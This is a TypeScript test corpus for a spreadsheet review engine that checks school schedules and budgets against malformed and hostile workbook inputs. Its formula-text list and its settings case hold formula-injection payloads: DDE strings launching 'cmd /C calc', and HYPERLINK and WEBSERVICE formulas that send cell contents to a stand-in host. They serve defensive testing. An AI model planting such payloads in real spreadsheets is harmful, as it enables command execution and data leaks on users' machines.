// The hostile corpus: workbooks shaped the way real exports and attackers shape them, each with what the review must
// make of it. The shapes are small grids built here (never copies of real data); the big ones are generated.
import type { CellValue, ReviewOutcome, Settings, SheetGrid, WorkbookGrids } from '../../src/engine/types';
import { NOTHING_TO_REVIEW } from '../../src/engine/review';
import { CELL_READS_PER_CELL, type Work } from '../support/workBounds';

export interface HostileCase {
  name: string;
  workbook: WorkbookGrids;
  settings?: unknown;
  /** What the review's counted work must be, where the case's shape fixes it (test/support/workBounds). */
  expectWork?: (work: Work) => void;
  /** Also write the report as .xlsx and check no cell of the file holds a formula. */
  writeXlsx?: boolean;
  /** What the review must make of it; throws (with expect) when it does not. */
  expectOutcome: (outcome: ReviewOutcome) => void;
}

export const sheet = (name: string, rows: CellValue[][], originRow = 0, originCol = 0): SheetGrid => ({ name, rows, originRow, originCol });

const SCHEDULE_HEADER = ['Section ID', 'Teacher', 'Course', 'Department', 'Grade', 'Period', 'Days', 'Enrollment'];

/** Text that Excel would run, dial or call if a writer let it through as cell input. */
export const FORMULA_TEXTS = [
  '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
  '+1-555-0100',
  '-1+2',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
];

const codes = (o: ReviewOutcome, code: string) => o.result.dataCheck.filter((d) => d.code === code);
const cellsOf = (o: ReviewOutcome, code: string) => codes(o, code).map((d) => `${d.sheet}!${d.cell}`);
const sheetRows = (o: ReviewOutcome, name: string) => o.report.sheets.find((s) => s.name === name)?.table.rows ?? [];

export const CORPUS: HostileCase[] = [
  {
    name: 'formula-looking course titles, teachers and sheet names stay text',
    workbook: {
      name: "=cmd|' /C calc'!A0",
      sheets: [
        sheet(
          '=Sched',
          [SCHEDULE_HEADER, ...FORMULA_TEXTS.map((text, i) => [`S${i + 1}`, i % 2 ? text : `Teacher ${i}`, text, 'English', '9', String((i % 6) + 1), 'M-F', 20 + i])],
        ),
      ],
    },
    writeXlsx: true,
    expectOutcome: (o) => {
      // Every title comes back in the Class Size sheet exactly as typed (trimmed as every cell is), in a text column.
      const courses = sheetRows(o, 'Class Size').map((r) => r[1]);
      expect(courses).toEqual(FORMULA_TEXTS.map((t) => t.trim()));
      const columns = o.report.sheets.find((s) => s.name === 'Class Size')!.table.columns;
      expect(columns[1].type).toBe('text');
      expect(o.result.keyFigures.sections).toBe(8);
      // A formula-looking teacher cell is read like any other: "@SUM(A1:A9)" is one name, kept as typed.
      const teachers = o.result.teachers.map((t) => t.teacher);
      expect(teachers).toEqual(expect.arrayContaining(['Teacher 0', 'Teacher 2', 'Teacher 4', 'Teacher 6', '@SUM(A1:A9)']));
    },
  },
  {
    name: 'error values in every column are listed and read as blank',
    workbook: {
      sheets: [
        sheet('Schedule', [
          SCHEDULE_HEADER,
          ['S1', 'Abbott', 'English 9', 'English', '9', '1', 'M-F', { error: '#N/A' }],
          ['S2', { error: '#REF!' }, 'English 9', 'English', '9', '2', 'M-F', 30],
          ['S3', 'Brown', { error: '#DIV/0!' }, { error: '#VALUE!' }, '9', { error: '#NAME?' }, { error: '#NUM!' }, 25],
        ]),
      ],
    },
    expectOutcome: (o) => {
      expect(cellsOf(o, 'excel-error').sort()).toEqual(['Schedule!B3', 'Schedule!C4', 'Schedule!D4', 'Schedule!F4', 'Schedule!G4', 'Schedule!H2']);
      // S1's enrollment is unknown, so only S2 (30, teacher unknown) and S3 (25) have a class size.
      expect(o.result.classSizes.map((c) => [c.sectionId, c.enrollment])).toEqual([
        ['S2', 30],
        ['S3', 25],
      ]);
    },
  },
  {
    name: 'a totals row ends the schedule and the budget and is not counted',
    workbook: {
      sheets: [
        sheet('Schedule', [
          ['Teacher', 'Course', 'Period', 'Days', 'Enrollment'],
          ['Abbott', 'English 9', '1', 'M-F', 30],
          ['Brown', 'Algebra I', '1', 'M-F', 25],
          ['Total', null, null, null, 55],
        ]),
        sheet('Budget', [
          ['Description', 'Fund', 'FTE', 'Amount'],
          ['Teacher', 'General Fund', 2, 190000],
          ['Instructional Coach', 'Title I', 1, 100000],
          ['Total', null, 3, 290000],
        ]),
      ],
    },
    expectOutcome: (o) => {
      expect(cellsOf(o, 'stopped-at-totals')).toEqual(['Schedule!4:4', 'Budget!4:4']);
      // 190,000 + 100,000, not doubled by the 290,000 total.
      expect(o.result.budget?.total).toBe(290000);
      expect(o.result.classSizes.map((c) => c.enrollment)).toEqual([30, 25]);
    },
  },
  {
    name: 'a blank row inside the schedule does not lose the rows after it',
    workbook: {
      sheets: [
        sheet('Schedule', [
          ['Teacher', 'Course', 'Period', 'Days', 'Enrollment'],
          ['Abbott', 'English 9', '1', 'M-F', 30],
          [null, null, null, null, null],
          ['Clark', 'Biology', '2', 'M-F', 20],
        ]),
      ],
    },
    expectOutcome: (o) => {
      // Rows 2 and 4 are read; the blank row 3 is counted as skipped.
      expect(o.result.sheetStats).toEqual([{ sheet: 'Schedule', kind: 'schedule', rowsRead: 2, rowsSkipped: 1 }]);
      expect(o.result.teachers.map((t) => t.teacher).sort()).toEqual(['Abbott', 'Clark']);
    },
  },
  {
    name: 'no schedule: a budget alone is reviewed and the missing schedule said',
    workbook: {
      sheets: [
        sheet('Budget', [
          ['Description', 'Fund', 'FTE', 'Amount'],
          ['Teacher', 'General Fund', 2, 190000],
          ['Instructional Aide', 'IDEA', 1, 40000],
        ]),
      ],
    },
    expectOutcome: (o) => {
      expect(codes(o, 'no-schedule').map((d) => d.severity)).toEqual(['warning']);
      expect(codes(o, NOTHING_TO_REVIEW)).toEqual([]);
      // 190,000 + 40,000.
      expect(o.result.budget?.total).toBe(230000);
      expect(o.result.teachers).toEqual([]);
      expect(o.result.classSizes).toEqual([]);
    },
  },
  {
    name: 'nothing to review: only text and far, sparse cells',
    workbook: {
      sheets: [
        sheet('Notes', [['Remember to order chairs']]),
        // XFD1048576 alone, as a sparse reader hands it over: one cell at the sheet's last row and column.
        sheet('Far', [[42]], 1_048_575, 16_383),
      ],
    },
    expectWork: (work) => {
      // Two cells, read a few times each: the far cell's coordinates cost nothing (a loop over them would be billions).
      expect(work.cellReads).toBeLessThanOrEqual(2 * CELL_READS_PER_CELL);
    },
    expectOutcome: (o) => {
      expect(codes(o, NOTHING_TO_REVIEW).map((d) => d.severity)).toEqual(['error']);
      expect(o.result.flags).toEqual([]);
    },
  },
  {
    name: 'headers only: a schedule with no rows gives no figures and no flags',
    workbook: { sheets: [sheet('Schedule', [SCHEDULE_HEADER])] },
    expectOutcome: (o) => {
      expect(o.result.keyFigures.sections).toBe(0);
      expect(o.result.keyFigures.students).toBeNull();
      expect(o.result.flags).toEqual([]);
      expect(codes(o, NOTHING_TO_REVIEW)).toEqual([]);
    },
  },
  {
    name: '100,000 schedule rows: 20,000 teachers with 5 sections of 25 each',
    workbook: {
      sheets: [
        sheet('Schedule', [
          SCHEDULE_HEADER,
          ...Array.from({ length: 100_000 }, (_, i): CellValue[] => {
            const teacher = Math.floor(i / 5);
            return [`S${i}`, `T${teacher}`, 'English 9', `Dept ${teacher % 50}`, '9', String((i % 5) + 1), 'M-F', 25];
          }),
        ]),
      ],
    },
    expectWork: (work) => {
      // 100,000 sections on 5 days: 500,000 teacher-day meetings, in 20,000 x 5 = 100,000 lists of 5 (periods 1-5).
      expect(work.meetingsCompared).toBe(500_000);
      // Each list of 5 compares 5 x 4 / 2 = 10 pairs: 100,000 x 10 = 1,000,000 (every meeting against every other
      // of the whole day would be 500,000 x 499,999 / 2).
      expect(work.meetingPairs).toBe(1_000_000);
      // Five period texts, "1" to "5", each read once however many rows repeat it.
      expect(work.periodLabels).toBe(5);
    },
    expectOutcome: (o) => {
      expect(o.result.keyFigures.sections).toBe(100_000);
      expect(o.result.keyFigures.teachers).toBe(20_000);
      // Every teacher: 5 sections x 25 seats = 125, above the warning level of 100, below the critical 150.
      expect(o.result.keyFigures.medianCoreLoad).toBe(125);
      expect(o.result.keyFigures.highestCoreLoad).toBe(125);
      expect(o.result.flags.filter((f) => f.id.startsWith('core-load:')).every((f) => f.severity === 'warning')).toBe(true);
    },
  },
  {
    name: 'unicode names: accents, scripts, emoji and right-to-left text are kept exactly',
    workbook: {
      sheets: [
        sheet('Horário 📅', [
          ['Teacher', 'Course', 'Department', 'Grade', 'Period', 'Days', 'Enrollment'],
          ['Zoë Ångström', 'English 9', 'English', '9', '1', 'M-F', 30],
          ['Zoë Ångström', 'English 9', 'English', '9', '2', 'M-F', 28],
          ['李华', 'Algebra I', 'Math', '9', '1', 'M-F', 26],
          ['محمد علي', 'Biology', 'Science', '9', '3', 'M-F', 24],
          ['👩‍🏫 Smith', 'US History', 'Social Studies', '9', '4', 'M-F', 22],
        ]),
      ],
    },
    writeXlsx: true,
    expectOutcome: (o) => {
      const loads = Object.fromEntries(o.result.teachers.map((t) => [t.teacher, t.seats]));
      // Zoë: 30 + 28 = 58 seats; the others one section each.
      expect(loads).toEqual({ 'Zoë Ångström': 58, 李华: 26, 'محمد علي': 24, '👩‍🏫 Smith': 22 });
      expect(o.result.tables[0].sheet).toBe('Horário 📅');
    },
  },
  {
    name: 'a period range of 99,999 periods is an error with its cell, not a hang',
    workbook: { sheets: [sheet('Schedule', [SCHEDULE_HEADER, ['S1', 'Abbott', 'English 9', 'English', '9', '1-99999', 'M-F', 30]])] },
    expectWork: (work) => {
      // The range is counted, never expanded: not one of its 99,999 labels is made.
      expect(work.periodLabels).toBe(0);
    },
    expectOutcome: (o) => {
      expect(codes(o, 'too-many-periods').map((d) => `${d.severity} ${d.cell}`)).toEqual(['error F2']);
      expect(o.result.teachers[0].periodsPerCycle).toBe(0);
    },
  },
  {
    name: 'implausible numbers: 9e307 minutes and students, a negative FTE',
    workbook: {
      sheets: [
        sheet('Schedule', [
          ['Teacher', 'Course', 'Period', 'Days', 'Minutes', 'Enrollment'],
          ['Abbott', 'English 9', '1', 'M-F', 9e307, 9e307],
        ]),
        sheet('Staff', [
          ['Name', 'Role', 'FTE'],
          ['Abbott', 'Teacher', -1],
        ]),
      ],
    },
    expectOutcome: (o) => {
      expect(cellsOf(o, 'implausible-number')).toEqual(['Schedule!E2', 'Schedule!F2', 'Staff!C2']);
      expect(o.result.teachers[0].seatsKnown).toBe(false);
    },
  },
  {
    name: 'a team of 5,000 and a 40,000-character title fit Excel cells',
    workbook: {
      sheets: [
        sheet('Schedule', [
          ['Teacher', 'Course', 'Grade', 'Period', 'Days', 'Enrollment'],
          ...Array.from({ length: 5000 }, (_, i): CellValue[] => [`Teacher ${i}`, i ? 'English 9' : 'E'.repeat(40_000), '9', String((i % 6) + 1), 'M-F', 25]),
        ]),
      ],
    },
    expectOutcome: (o) => {
      const members = sheetRows(o, 'Collaboration').map((r) => String(r[3]));
      expect(members.some((m) => /… and \d+ more$/.test(m))).toBe(true);
    },
  },
  {
    name: 'hostile settings: a formula as a threshold, rules of the wrong type, an unknown level',
    workbook: {
      sheets: [
        sheet('Schedule', [
          SCHEDULE_HEADER,
          ...[1, 2, 3, 4].map((p): CellValue[] => [`E${p}`, 'Abbott', 'English 9', 'English', '9', String(p), 'M-F', 30]),
        ]),
      ],
    },
    settings: {
      thresholds: { coreLoadWarn: ['1)*0+ISNUMBER(WEBSERVICE("http://example.invalid/leak?"&$A5))+AND(1'] },
      subjectRules: null,
      schoolLevel: 'university',
      mapping: { schedule: { sheet: 123 } },
    } satisfies Record<string, unknown> as unknown as Partial<Settings>,
    writeXlsx: true,
    expectOutcome: (o) => {
      expect(codes(o, 'invalid-setting').map((d) => d.message.split(':')[0])).toEqual([
        'Setting "thresholds.coreLoadWarn"',
        'Setting "subjectRules"',
        'Setting "schoolLevel"',
        'Setting "mapping.schedule.sheet"',
      ]);
      // 4 x 30 = 120 seats: above the default warning level of 100, so the flag is not lost.
      expect(o.result.flags.find((f) => f.id === 'core-load:English')?.severity).toBe('warning');
    },
  },
];
